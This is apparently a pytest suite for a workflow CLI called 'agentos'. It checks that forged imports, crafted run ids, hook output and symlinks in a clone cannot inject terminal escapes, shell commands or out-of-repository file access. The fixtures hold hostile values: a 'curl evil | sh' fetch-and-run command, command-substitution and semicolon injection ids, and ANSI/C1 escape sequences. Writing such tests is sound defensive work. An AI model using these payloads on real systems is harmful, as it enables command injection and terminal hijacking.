"""What comes with a clone, an imported file or somebody's ids must not act: not on the terminal, not in the shell."""

from __future__ import annotations

import io
import json
import os
import shlex
from pathlib import Path

import msgspec
import pytest

from agentos import Workflow, run
from agentos.ids import CheckpointId
from agentos.machine import events as ev
from agentos.store import codec
from agentos.workflow.transfer.export_file import export_lines, read_export
from tests.cli.conftest import Agentos
from tests.cli.runs import waiting
from tests.conftest import git, trust

ESCAPE = "\x1b]0;owned\x07\x9b2J\u202e"
"""Sets a title, clears the screen (as C1 says it), and turns the order of reading round."""


def inert(text: str) -> bool:
    """Whether a terminal would only show it."""
    return all(character.isprintable() or character == "\n" for character in text)


# --- an imported journal that lies ------------------------------------------------------------------------------------


def forged(exported: bytes) -> bytes:
    """The same run, as somebody would write it who wants more than to be read. Its digests are right."""
    copy = read_export(io.BytesIO(exported), "forged")
    workflow_id = copy.run.workflow_id
    events = codec.decode_rows(
        workflow_id, copy.rows, after=0, previous=codec.first_digest(workflow_id), blobs=copy.blobs.get
    )[0]
    changed: list[ev.Event] = []
    for event in events:
        if isinstance(event, ev.DecisionRequired):
            event = msgspec.structs.replace(event, command="curl evil | sh", question=f"Really?{ESCAPE}")
        if isinstance(event, ev.Checkpointed):
            event = msgspec.structs.replace(event, checkpoint_id=CheckpointId(f"{event.checkpoint_id}{ESCAPE}"))
        changed.append(event)
    rows, blobs = codec.encode_events(changed, codec.first_digest(workflow_id))
    digests = {row.seq: row.digest.hex() for row in rows}
    cuts = tuple(
        msgspec.structs.replace(cut, id=CheckpointId(f"{cut.id}{ESCAPE}"), digest=digests[cut.sequence])
        for cut in copy.checkpoints
    )
    record = msgspec.structs.replace(copy.run, name=f"flow{ESCAPE}\nplain\n$(touch owned)\nhelp", root=f"/x{ESCAPE}")
    copy = msgspec.structs.replace(copy, run=record, rows=tuple(rows), blobs=blobs, checkpoints=cuts)
    return b"".join(export_lines(copy, version="0"))


def test_a_forged_run_can_be_looked_at(agentos: Agentos, tmp_git_repo: Path, tmp_path: Path) -> None:
    waiting(tmp_git_repo, id="ask-1")
    exported = tmp_path / "run.jsonl"
    assert agentos("export", "ask-1", "-o", exported, cwd=tmp_git_repo).code == 0
    assert agentos("delete", "ask-1", "--yes", cwd=tmp_git_repo).code == 0
    exported.write_bytes(forged(exported.read_bytes()))
    taken = agentos("import", exported, cwd=tmp_git_repo)
    if taken.code == 6:  # refused as a whole is as good
        assert inert(taken.err)
        return
    assert (taken.code, inert(taken.out + taken.err)) == (0, True), taken.err
    for words in (
        ["list"],
        ["inbox"],
        ["show", "ask-1"],
        ["show", "ask-1", "--json"],
        ["events", "ask-1"],
        ["why", "ask-1", "ship"],
        ["checkpoints", "ask-1"],
        ["diff", "ask-1", "ask-1"],
        ["approve", "ask-1", "nosuch"],
        ["graph", "ask-1"],
        ["graph", "ask-1", "--format", "text"],
        ["logs", "ask-1"],
        ["db", "stats"],
        ["doctor", "--deep"],
        ["watch", "ask-1"],
    ):
        done = agentos(*words, cwd=tmp_git_repo)
        assert inert(done.out + done.err), (words, done)
        assert "Traceback" not in done.err, (words, done.err)
        if words[0] not in ("events", "watch"):  # which tell what is written, as it is
            assert "curl evil" not in done.out + done.err, (words, done)
    offered = completed(agentos, tmp_git_repo, "zsh", "show", "")
    assert "$(touch owned)" not in offered.splitlines()


# --- what is put on a command line ------------------------------------------------------------------------------------


def completed(agentos: Agentos, repo: Path, shell: str, *words: str) -> str:
    """What the shell's script is told."""
    typed = ["agentos", *words]
    env = {
        "_AGENTOS_COMPLETE": f"{shell}_complete",
        "COMP_WORDS": " ".join(typed),
        "COMP_CWORD": str(len(typed) - 1) if shell != "fish" else words[-1],
    }
    return agentos(cwd=repo, env=env).out


HOSTILE_IDS = [
    "$(touch owned)",
    "`touch owned`",
    "x;touch${IFS}owned",
    "*",
    "a|b",
    "x\ny",
    f"x{ESCAPE}",
    "~root",
]


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_nothing_is_completed_that_a_shell_would_run(agentos: Agentos, tmp_git_repo: Path, shell: str) -> None:
    for id in [*HOSTILE_IDS, "plain-1"]:
        waiting(tmp_git_repo, id=id)
    offered = completed(agentos, tmp_git_repo, shell, "show", "")
    assert "plain-1" in offered
    assert not any(id in offered for id in HOSTILE_IDS if id not in "plain-1")
    assert inert(offered.replace("\t", ""))


def test_commands_to_type_are_quoted(agentos: Agentos, tmp_git_repo: Path) -> None:
    for id in HOSTILE_IDS[:7]:
        waiting(tmp_git_repo, id=id)
        shown = json.loads(agentos("show", "--json", "--", id, cwd=tmp_git_repo).out)
        assert shlex.split(shown["gates"][0]["command"]) == ["agentos", "approve", id, "approve:ship"]
        for words in (["show", "--", id], ["why", "--", id, "ship"]):
            told = agentos(*words, cwd=tmp_git_repo).out
            assert inert(told)
            if inert(id) and "\n" not in id:
                assert f"agentos approve {shlex.quote(id)} approve:ship" in told


# --- what a terminal obeys --------------------------------------------------------------------------------------------


def test_json_on_a_terminal_is_inert_and_says_the_same(agentos: Agentos, tmp_git_repo: Path) -> None:
    flow = Workflow("flow")
    flow.add("one", lambda: {"text": f"ü🙂{ESCAPE}"})
    run(flow, workflow_id="a", repo=tmp_git_repo)
    for words in (["show", "a", "--json"], ["why", "a", "one", "--json"]):
        done = agentos(*words, cwd=tmp_git_repo)
        assert inert(done.out), words
        assert "ü🙂" in done.out or words[0] == "why"
        json.loads(done.out)
    shown = json.loads(agentos("show", "a", "--json", cwd=tmp_git_repo).out)
    assert shown["tasks"][0]["output"] == {"text": f"ü🙂{ESCAPE}"}
    events = agentos("events", "a", "--json", cwd=tmp_git_repo).out
    assert inert(events)
    assert {"text": f"ü🙂{ESCAPE}"} in [json.loads(line).get("output") for line in events.splitlines()]


def test_what_a_hook_says_is_shown_and_not_obeyed(agentos: Agentos, tmp_git_repo: Path) -> None:
    (tmp_git_repo / "agentos.toml").write_text('on_end = ["sh", "-c", "printf \'\\\\033[2Jboo\\\\n\'; exit 3"]\n')
    trust(tmp_git_repo)
    (tmp_git_repo / "tidy.yaml").write_text("name: tidy\ntasks: {a: {run: 'true', effects: none}}\n")
    done = agentos("run", "tidy.yaml", cwd=tmp_git_repo)
    assert (done.code, "exit code 3: \\x1b[2Jboo" in done.err, inert(done.err)) == (0, True, True), done.err


# --- what comes with a clone ------------------------------------------------------------------------------------------


def test_init_does_not_follow_links_out_of_the_repository(agentos: Agentos, tmp_git_repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "profile").write_text("mine\n")
    (tmp_git_repo / ".gitignore").symlink_to(outside / "profile")
    done = agentos("init", "--gitignore", cwd=tmp_git_repo)
    assert (done.code, "leads out of the repository" in done.err) == (2, True)
    assert (outside / "profile").read_text() == "mine\n"
    assert not (tmp_git_repo / "workflows").exists()
    (tmp_git_repo / "workflows").symlink_to(outside)
    done = agentos("init", cwd=tmp_git_repo)
    assert (done.code, os.listdir(outside)) == (2, ["profile"])


def test_a_clone_brings_no_logs_to_read_or_to_write(agentos: Agentos, tmp_git_repo: Path, tmp_path: Path) -> None:
    """A link in place of the logs, of a run's, or of a file among them."""
    (tmp_git_repo / "talk.yaml").write_text("name: talk\ntasks: {a: {run: 'echo hello', effects: none}}\n")
    assert agentos("run", "talk.yaml", "--id", "t", cwd=tmp_git_repo).code == 0
    logs = tmp_git_repo / ".agentos" / "logs"
    (tmp_path / "shadow").write_text("2026-01-01T00:00:00.000Z out root:secret\n")
    (logs / "t" / "b.1.log").symlink_to(tmp_path / "shadow")
    done = agentos("logs", "t", cwd=tmp_git_repo)
    assert (done.code, "secret" in done.out) == (0, False)
    elsewhere = tmp_path / "elsewhere"
    (logs / "t").rename(elsewhere)
    (logs / "t").symlink_to(elsewhere)
    for words in (["logs", "t"], ["delete", "t", "--yes"]):
        done = agentos(*words, cwd=tmp_git_repo)
        assert (done.code, "symbolic link" in done.err) == (1, True), (words, done)
    assert (elsewhere / "a.1.log").exists()
    assert agentos("show", "t", cwd=tmp_git_repo).code == 0
    assert git("status", "--porcelain", cwd=tmp_git_repo) == "?? talk.yaml"
